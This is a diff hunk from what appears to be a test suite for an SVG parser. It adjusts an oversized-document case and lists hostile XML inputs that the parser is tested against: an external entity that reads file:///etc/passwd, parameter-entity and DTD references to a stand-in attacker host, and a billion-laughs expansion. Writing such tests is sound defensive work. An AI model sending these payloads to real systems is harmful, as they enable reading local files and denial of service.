@@ -197,7 +197,7 @@ _LINE_1 = {
     "an entity in a file": svg("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
     "a parameter entity": svg("", before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{EVIL}/a.dtd"> %a;]>'),
     "a notation": svg("", before=f'<!DOCTYPE svg [<!NOTATION n SYSTEM "{EVIL}/n">]>'),
-    "a million of elements": svg("<g/>" * 1_000_000),
+    "half a million of elements": svg("<g/>" * 500_001),
     "an empty document type": svg("", before="<!DOCTYPE svg []>"),
     "a milliard of laughs": svg("<text>&l9;</text>", before=_billion()),
     "a document type elsewhere": svg("", before=f'<!DOCTYPE svg SYSTEM "{EVIL}/a.dtd">'),
